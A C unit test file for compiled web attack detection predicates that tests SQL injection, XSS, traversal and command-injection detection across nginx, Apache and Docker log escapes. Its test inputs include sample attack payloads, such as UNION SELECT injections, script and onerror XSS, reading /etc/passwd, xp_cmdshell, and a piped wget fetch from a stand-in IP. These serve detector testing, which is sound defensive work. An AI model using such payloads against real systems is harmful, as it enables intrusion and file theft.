/*
 * Unit tests for the web attack compiled rules (tld_*_url in rule_compiled.c): each predicate
 * against attacks and look-alikes, the escapes of the logs the url field comes from (nginx \xHH,
 * Apache \" and \\, Docker json-file \u003c...), and inputs at and past the size bound.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "engine/rules/rule_compiled.h"
#include "engine/webattack/webattack.h"

static tld_rule_compiled_fn fn(const char *name)
{
    tld_rule_compiled_fn f = tld_rule_compiled_find(tld_sv_of(name));
    assert_non_null(f);
    return f;
}

/* The predicate `name` on an event whose url field is `url` (NULL: no url field). */
static bool on_url(const char *name, const char *url)
{
    struct tld_event ev;
    memset(&ev, 0, sizeof ev);
    if (url)
        ev.fields[TLD_F_URL] = tld_sv_of(url);
    return fn(name)(&ev);
}

static void names_resolve(void **state)
{
    (void)state;
    const char *names[] = {"tld_sqli_url", "tld_xss_url", "tld_traversal_url", "tld_cmdi_url",
                           "tld_common_attack_url"};
    for (unsigned i = 0; i < sizeof names / sizeof *names; i++)
        assert_non_null(tld_rule_compiled_find(tld_sv_of(names[i])));
    assert_null(tld_rule_compiled_find(tld_sv_of("tld_sqli")));
    assert_null(tld_rule_compiled_find(tld_sv_of("TLD_SQLI_URL")));
}

static void sqli(void **state)
{
    (void)state;
    assert_true(on_url("tld_sqli_url", "/users/?id=SELECT+*+FROM+users"));
    assert_true(on_url("tld_sqli_url", "/item.php?id=1%27%20UNION%20SELECT%20a,b%20FROM%20t--"));
    assert_true(on_url("tld_sqli_url", "/item.php?id=1%2527%2520OR%25201%253D1--"));
    assert_true(on_url("tld_sqli_url", "/p?id=-1/**/UnIoN/**/SeLeCt/**/1,2,3"));
    assert_false(on_url("tld_sqli_url", "/people?last=O%27Brien"));
    assert_false(on_url("tld_sqli_url", "/search?q=select+a+size"));
    assert_false(on_url("tld_sqli_url", "/search?q=drop+table+tennis"));
    /* the other predicates do not claim it */
    assert_false(on_url("tld_xss_url", "/users/?id=SELECT+*+FROM+users"));
    assert_false(on_url("tld_common_attack_url", "/users/?id=SELECT+*+FROM+users"));
}

static void xss(void **state)
{
    (void)state;
    assert_true(on_url("tld_xss_url", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"));
    assert_true(on_url("tld_xss_url", "/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"));
    assert_true(on_url("tld_xss_url", "/search?q=<svg/onload=alert(1)>"));
    assert_false(on_url("tld_xss_url", "/search?q=html+%3Cdiv%3E+center"));
    assert_false(on_url("tld_xss_url", "/search?q=price+%3C+20"));
}

static void traversal_and_cmdi(void **state)
{
    (void)state;
    const char *trav = "/get?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd";
    const char *cmdi = "/ping?host=8.8.8.8%3Bcat%20/etc/passwd";
    assert_true(on_url("tld_traversal_url", trav));
    assert_true(on_url("tld_common_attack_url", trav));
    assert_true(on_url("tld_cmdi_url", cmdi));
    assert_true(on_url("tld_common_attack_url", cmdi));
    assert_false(on_url("tld_traversal_url", "/docs?path=guide/intro.pdf"));
    assert_false(on_url("tld_cmdi_url", "/search?q=rm+-rf+meaning"));
    assert_false(on_url("tld_common_attack_url", "/recipes?q=ham+%26+cheese"));
}

/* How each log writes what the client sent: the predicates must see the same request. */
static void log_escapes(void **state)
{
    (void)state;
    /* nginx: a quote as \x22 */
    assert_true(on_url("tld_sqli_url", "/p?user=admin\\x22%20or%20\\x221\\x22=\\x221"));
    /* Apache: a quote as \" */
    assert_true(on_url("tld_sqli_url", "/p?user=admin\\\"%20or%20\\\"1\\\"=\\\"1"));
    /* Docker json-file: <, > and & as \u003c, \u003e, \u0026; the & must still split parameters */
    assert_true(on_url("tld_xss_url", "/s?lang=en\\u0026q=\\u003cscript\\u003ealert(1)\\u003c/"
                                      "script\\u003e"));
    assert_true(on_url("tld_sqli_url", "/s?lang=en\\u0026id=1%27%20or%20%271%27=%271"));
    /* nginx's \x22 inside Docker's JSON: \\x22 */
    assert_true(on_url("tld_xss_url", "/s?q=\\\\x22\\u003e\\u003cimg%20src=x%20onerror=alert(1)"
                                      "\\u003e"));
    assert_false(on_url("tld_xss_url", "/s?lang=en\\u0026q=fish+\\u0026+chips"));
    /* escapes that are not JSON stay as they are */
    assert_false(on_url("tld_sqli_url", "/s?q=C:\\\\temp\\\\x"));
}

/* The signature list: matched on the decoded URL whatever the case and encoding. */
static void signatures(void **state)
{
    (void)state;
    assert_true(on_url("tld_sqli_url", "/x?q=%49NFORMATION%5FSCHEMA"));
    assert_true(on_url("tld_sqli_url", "/x?q=1;EXEC%2520master..XP_CMDSHELL"));
    assert_true(on_url("tld_common_attack_url", "/x?f=%2FETC%2Fpasswd"));
    assert_true(on_url("tld_cmdi_url", "/x?h=a%7Cwget+http://203.0.113.9/x"));
    assert_true(on_url("tld_xss_url", "/x?q=%3CSCRIPT"));
    /* the same words outside the idiom */
    assert_false(on_url("tld_sqli_url", "/docs/information-schema-guide?page=2"));
    assert_false(on_url("tld_cmdi_url", "/x?q=wget+vs+curl"));
    assert_false(on_url("tld_xss_url", "/x?q=script+writing"));
}

static void bounds(void **state)
{
    (void)state;
    assert_false(on_url("tld_sqli_url", NULL));
    assert_false(on_url("tld_sqli_url", ""));
    /* longer than the scanned length, all escapes, and an escape cut at the very end */
    size_t n = TLD_WEBATTACK_MAX_URL + 4096;
    char *u = malloc(n + 1);
    assert_non_null(u);
    memcpy(u, "/x?q=", 5);
    for (size_t i = 5; i + 6 <= n; i += 6)
        memcpy(u + i, "\\u003c", 6);
    u[n - 2] = '\\';
    u[n - 1] = 'u';
    u[n] = '\0';
    (void)on_url("tld_xss_url", u);
    for (size_t i = 0; i < n; i++)
        u[i] = '\\';
    (void)on_url("tld_sqli_url", u);
    free(u);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(names_resolve), cmocka_unit_test(sqli),
        cmocka_unit_test(xss),           cmocka_unit_test(traversal_and_cmdi),
        cmocka_unit_test(log_escapes),   cmocka_unit_test(signatures),
        cmocka_unit_test(bounds),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
